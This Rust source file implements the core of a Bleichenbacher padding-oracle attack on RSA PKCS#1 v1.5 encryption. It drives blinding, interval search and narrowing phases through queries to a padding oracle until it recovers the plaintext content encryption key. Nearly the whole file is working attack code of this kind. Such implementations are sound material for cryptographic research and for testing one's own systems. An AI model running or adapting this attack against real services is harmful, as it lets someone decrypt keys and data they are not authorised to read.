use core::cmp;
use core::convert::TryFrom;
use core::fmt;
use std::sync::Arc;

use log::{debug, info, warn};
use num::bigint::{BigUint, RandBigInt};
use num::{One, Zero};
use rand::SeedableRng;
use rand_chacha::ChaCha20Rng;

use crate::bignat::{ceil_div, inv_mod};
use crate::config::AttackConfig;
use crate::error::AbortReason;
use crate::extract::{self, Recovery};
use crate::handle::{CancelToken, Event, Reporter};
use crate::interval::IntervalSet;
use crate::key::{Bounds, Ciphertext, PublicKey};
use crate::oracle::Oracle;
use crate::scheduler::{Halt, Scheduler};

/// Phase of the attack, as reported to observers
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    /// Step 1: searching a random s0 making the ciphertext conforming
    Blinding,
    /// Step 2.a: smallest s >= n / 3B
    InitialSearch,
    /// Step 2.b: linear search while several intervals remain
    MultiIntervalSearch,
    /// Step 2.c: search over r while one interval remains
    SingleIntervalSearch,
    /// Step 3: shrink the intervals with the found s
    Narrow,
    /// Step 4: one value remains
    Converged,
    Aborted,
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Phase::Blinding => "blinding",
            Phase::InitialSearch => "initial search",
            Phase::MultiIntervalSearch => "multi-interval search",
            Phase::SingleIntervalSearch => "single-interval search",
            Phase::Narrow => "narrowing",
            Phase::Converged => "converged",
            Phase::Aborted => "aborted",
        };
        f.write_str(name)
    }
}

/// Terminal outcome of an attack
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum AttackResult {
    Recovered(Recovery),
    Aborted(AbortReason),
    Cancelled,
}

impl AttackResult {
    /// The recovered content encryption key, if any
    pub fn cek(&self) -> Option<&[u8]> {
        match self {
            AttackResult::Recovered(recovery) => Some(&recovery.cek),
            _ => None,
        }
    }
}

// Attack state, data carried between phases lives in the variants
enum State {
    Blinding,
    InitialSearch,
    MultiIntervalSearch,
    SingleIntervalSearch,
    Narrow(BigUint),
    Converged,
}

impl State {
    fn phase(&self) -> Phase {
        match self {
            State::Blinding => Phase::Blinding,
            State::InitialSearch => Phase::InitialSearch,
            State::MultiIntervalSearch => Phase::MultiIntervalSearch,
            State::SingleIntervalSearch => Phase::SingleIntervalSearch,
            State::Narrow(_) => Phase::Narrow,
            State::Converged => Phase::Converged,
        }
    }
}

/// Mutable state of one Bleichenbacher attack
pub(crate) struct AttackSession {
    key: PublicKey,
    bounds: Bounds,
    original: Ciphertext,
    // c0 * s0**e mod n, the ciphertext every search multiplies
    working: BigUint,
    s0: BigUint,
    s: BigUint,
    intervals: IntervalSet,
    scheduler: Scheduler,
    rng: ChaCha20Rng,
    max_blinding_attempts: u64,
    reporter: Reporter,
    rounds: u64,
}

impl AttackSession {
    pub fn new(
        key: PublicKey,
        ciphertext: Ciphertext,
        oracle: Arc<dyn Oracle>,
        config: AttackConfig,
        cancel: CancelToken,
        reporter: Reporter,
    ) -> Self {
        let rng = match config.rng_seed {
            Some(seed) => ChaCha20Rng::seed_from_u64(seed),
            None => ChaCha20Rng::from_entropy(),
        };
        let bounds = key.bounds();
        let intervals = IntervalSet::from_interval(bounds.initial_interval());
        let max_blinding_attempts = config.max_blinding_attempts;
        let scheduler = Scheduler::new(key.clone(), oracle, config, cancel, reporter.clone());

        Self {
            working: ciphertext.value().clone(),
            original: ciphertext,
            key,
            bounds,
            s0: BigUint::one(),
            s: BigUint::zero(),
            intervals,
            scheduler,
            rng,
            max_blinding_attempts,
            reporter,
            rounds: 0,
        }
    }

    /// Drive the attack until it recovers the plaintext, aborts or is cancelled
    pub fn run(mut self) -> AttackResult {
        info!(
            "starting attack on {}-bit modulus ({} bytes)",
            self.key.bits(),
            self.key.k()
        );

        let mut state = match self.check_original() {
            Ok(state) => state,
            Err(halt) => return self.halt(halt),
        };

        loop {
            self.enter(state.phase());

            let next = match state {
                State::Blinding => self.blind(),
                State::InitialSearch => self.initial_search(),
                State::MultiIntervalSearch => self.multi_interval_search(),
                State::SingleIntervalSearch => self.single_interval_search(),
                State::Narrow(s) => self.narrow(s),
                State::Converged => return self.finish(),
            };

            state = match next {
                Ok(state) => state,
                Err(halt) => return self.halt(halt),
            };
        }
    }

    // Skip blinding when the original ciphertext already conforms (s0 = 1)
    fn check_original(&mut self) -> Result<State, Halt> {
        let original = self.original.value().clone();

        if self.scheduler.probe(&original, &BigUint::one())? {
            info!("original ciphertext is conforming, skipping blinding");
            Ok(State::InitialSearch)
        } else {
            Ok(State::Blinding)
        }
    }

    // Step 1: find s0 such that c0 * s0**e mod n is conforming
    fn blind(&mut self) -> Result<State, Halt> {
        let original = self.original.value().clone();
        let attempts = usize::try_from(self.max_blinding_attempts).unwrap_or(usize::MAX);

        let two = BigUint::from(2_u8);
        let n = self.key.n();
        let rng = &mut self.rng;

        // factors sharing a prime with n cannot be undone, skip them without a query
        let candidates = (0..attempts)
            .map(move |_| rng.gen_biguint_range(&two, n))
            .filter(|s0| inv_mod(s0, n).is_some());

        match self.scheduler.search(&original, candidates)? {
            Some(s0) => {
                debug!("blinding factor found: s0 = {}", s0);
                self.working = self.key.blind(&original, &s0);
                self.s0 = s0;
                Ok(State::InitialSearch)
            }
            None => {
                warn!("no conforming blinding factor in {} attempts", attempts);
                Err(AbortReason::BlindingFailed.into())
            }
        }
    }

    // Step 2.a: smallest s >= ceil(n / 3B) that conforms
    fn initial_search(&mut self) -> Result<State, Halt> {
        let start = ceil_div(self.key.n(), &self.bounds.three_b);
        self.linear_search(start)
    }

    // Step 2.b: smallest s > s_{i-1} that conforms
    fn multi_interval_search(&mut self) -> Result<State, Halt> {
        let start = &self.s + 1_u32;
        self.linear_search(start)
    }

    fn linear_search(&mut self, start: BigUint) -> Result<State, Halt> {
        let candidates = core::iter::successors(Some(start), |s| Some(s + 1_u32));

        // candidate streams are unbounded, they only end through the query budget
        let s = self
            .scheduler
            .search(&self.working, candidates)?
            .ok_or(AbortReason::QueryBudgetExceeded)?;

        Ok(State::Narrow(s))
    }

    // Step 2.c: with one interval [a, b] left, walk r upward from
    // 2 * (b * s_{i-1} - 2B) / n and try s in [(2B + rn) / b, (3B + rn) / a)
    fn single_interval_search(&mut self) -> Result<State, Halt> {
        let interval = match self.intervals.first() {
            Some(interval) => interval.clone(),
            None => return Err(AbortReason::InconsistentOracle.into()),
        };

        let candidates = SingleIntervalCandidates::new(
            interval.lower().clone(),
            interval.upper().clone(),
            &self.s,
            self.key.n().clone(),
            &self.bounds,
        );

        let s = self
            .scheduler
            .search(&self.working, candidates)?
            .ok_or(AbortReason::QueryBudgetExceeded)?;

        Ok(State::Narrow(s))
    }

    // Step 3: narrow with the confirmed s, then pick the next phase
    fn narrow(&mut self, s: BigUint) -> Result<State, Halt> {
        self.intervals.narrow(&s, self.key.n(), &self.bounds);
        self.s = s;
        self.rounds += 1;

        self.reporter.emit(Event::IntervalCount(self.intervals.len()));
        debug!(
            "round {}: s = {}, {} interval(s), width {} bits, {} queries",
            self.rounds,
            self.s,
            self.intervals.len(),
            self.intervals.total_width().bits(),
            self.scheduler.queries()
        );

        if self.intervals.is_empty() {
            warn!("narrowing with s = {} left no candidate plaintext", self.s);
            return Err(AbortReason::InconsistentOracle.into());
        }

        if self.intervals.is_singleton() {
            Ok(State::Converged)
        } else if self.intervals.len() == 1 {
            Ok(State::SingleIntervalSearch)
        } else {
            Ok(State::MultiIntervalSearch)
        }
    }

    // Step 4: undo blinding and check the plaintext structure
    fn finish(self) -> AttackResult {
        let queries = self.scheduler.queries();

        let a = match self.intervals.singleton() {
            Some(a) => a,
            None => return AttackResult::Aborted(AbortReason::InconsistentOracle),
        };

        match extract::recover(&self.key, a, &self.s0, queries) {
            Ok(recovery) => {
                info!(
                    "recovered {}-byte plaintext after {} rounds and {} queries",
                    recovery.cek.len(),
                    self.rounds,
                    queries
                );
                AttackResult::Recovered(recovery)
            }
            Err(err) => {
                warn!("converged value is not a valid plaintext: {}", err);
                self.reporter.emit(Event::PhaseChanged(Phase::Aborted));
                AttackResult::Aborted(AbortReason::InconsistentOracle)
            }
        }
    }

    fn enter(&self, phase: Phase) {
        info!("entering {} after {} queries", phase, self.scheduler.queries());
        self.reporter.emit(Event::PhaseChanged(phase));
        self.reporter.emit(Event::QueriesIssued(self.scheduler.queries()));
    }

    fn halt(&self, halt: Halt) -> AttackResult {
        let queries = self.scheduler.queries();

        match halt {
            Halt::Cancelled => {
                info!("attack cancelled after {} queries", queries);
                AttackResult::Cancelled
            }
            Halt::Abort(reason) => {
                warn!("attack aborted after {} queries: {}", queries, reason);
                self.reporter.emit(Event::PhaseChanged(Phase::Aborted));
                AttackResult::Aborted(reason)
            }
        }
    }
}

/// Multipliers for step 2.c, in increasing order of r then s
struct SingleIntervalCandidates {
    a: BigUint,
    b: BigUint,
    n: BigUint,
    two_b: BigUint,
    three_b: BigUint,
    r: BigUint,
    // next s to yield, and the exclusive end of the range for r
    s: BigUint,
    s_end: BigUint,
    // ranges of consecutive r may overlap, never yield below this
    floor: BigUint,
}

impl SingleIntervalCandidates {
    fn new(a: BigUint, b: BigUint, prev_s: &BigUint, n: BigUint, bounds: &Bounds) -> Self {
        // r >= 2 * (b * s_{i-1} - 2B) / n
        let b_s = &b * prev_s;
        let r = if b_s > bounds.two_b {
            ceil_div(&((b_s - &bounds.two_b) << 1_usize), &n)
        } else {
            BigUint::zero()
        };

        let mut candidates = Self {
            a,
            b,
            n,
            two_b: bounds.two_b.clone(),
            three_b: bounds.three_b.clone(),
            r,
            s: BigUint::zero(),
            s_end: BigUint::zero(),
            floor: BigUint::zero(),
        };
        candidates.reset_range();
        candidates
    }

    // (2B + rn) / b <= s < (3B + rn) / a
    fn reset_range(&mut self) {
        let rn = &self.r * &self.n;
        self.s = cmp::max(ceil_div(&(&self.two_b + &rn), &self.b), self.floor.clone());
        self.s_end = ceil_div(&(&self.three_b + &rn), &self.a);
    }
}

impl Iterator for SingleIntervalCandidates {
    type Item = BigUint;

    fn next(&mut self) -> Option<BigUint> {
        while self.s >= self.s_end {
            self.r += 1_u32;
            self.reset_range();
        }

        let s = self.s.clone();
        self.s += 1_u32;
        self.floor = self.s.clone();
        Some(s)
    }
}
